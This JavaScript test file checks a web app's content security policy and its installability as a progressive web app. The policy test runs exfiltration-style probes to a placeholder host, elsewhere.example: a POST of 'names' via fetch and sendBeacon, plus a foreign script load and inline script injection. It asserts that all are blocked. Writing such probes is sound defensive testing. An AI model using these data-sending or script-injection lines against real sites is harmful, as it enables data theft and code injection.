// What the page may not do, and what a browser needs to install it. The policy is tested by trying, not by reading it.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { introduce, launch, open, targets } from "./harness.mjs";

let browser, ways;
before(async () => { browser = await launch(); ways = await targets(); });
after(async () => { await browser.close(); await ways.close(); });

test("no script request can leave its own origin, and no foreign script runs", async () => {
  for (const { name, url } of ways.list) {
    const { context, page, wrong } = await open(browser, url);
    await introduce(page);
    const asked = [];
    await context.route(/elsewhere\.example/, (route) => { asked.push(route.request().url()); return route.abort(); });
    const outcome = await page.evaluate(async () => {
      const refused = (work) => work.then(() => "sent", () => "refused");
      const image = new Promise((done, fail) => Object.assign(new Image(), { onload: done, onerror: fail, src: "https://elsewhere.example/pixel.png" }));
      const script = new Promise((done, fail) => document.head.append(Object.assign(document.createElement("script"), { onload: done, onerror: fail, src: "https://elsewhere.example/a.js" })));
      const inline = document.createElement("script");
      inline.textContent = "window.foreign = true";
      document.head.append(inline);
      return {
        fetch: await refused(fetch("https://elsewhere.example/", { method: "POST", body: "names" })),
        beacon: await refused(Promise.resolve(navigator.sendBeacon("https://elsewhere.example/", "names")).then((sent) => sent || Promise.reject())),
        image: await refused(image),
        script: await refused(script),
        inline: window.foreign === true,
      };
    });
    assert.equal(outcome.fetch, "refused", name);
    assert.equal(outcome.image, "refused", name);
    assert.equal(outcome.script, "refused", name);
    assert.equal(outcome.inline, false, name);
    assert.deepEqual(asked, [], `${name}: nothing was even asked for`);
    assert.ok(wrong.some((line) => line.startsWith("policy: connect-src")), `${name}: ${wrong.join("; ")}`);
    await context.close();
  }
});

test("the hosted edition can be installed", async () => {
  const { context, page, wrong } = await open(browser, ways.list[0].url);
  await introduce(page);
  await page.evaluate(() => navigator.serviceWorker.ready);
  const client = await context.newCDPSession(page);
  const { errors, url, data } = await client.send("Page.getAppManifest");
  assert.deepEqual(errors, []);
  assert.match(url, /manifest/);
  const manifest = JSON.parse(data);
  assert.equal(manifest.display, "standalone");
  assert.ok(manifest.icons.some(({ sizes }) => sizes === "192x192") && manifest.icons.some(({ sizes }) => sizes === "512x512"));
  const { installabilityErrors } = await client.send("Page.getInstallabilityErrors");
  // A profile that leaves no trace cannot install anything; that is the only thing that may stand in the way here.
  assert.deepEqual(installabilityErrors.map(({ errorId }) => errorId).filter((id) => id !== "in-incognito"), []);
  assert.deepEqual(wrong, []);
  await context.close();
});
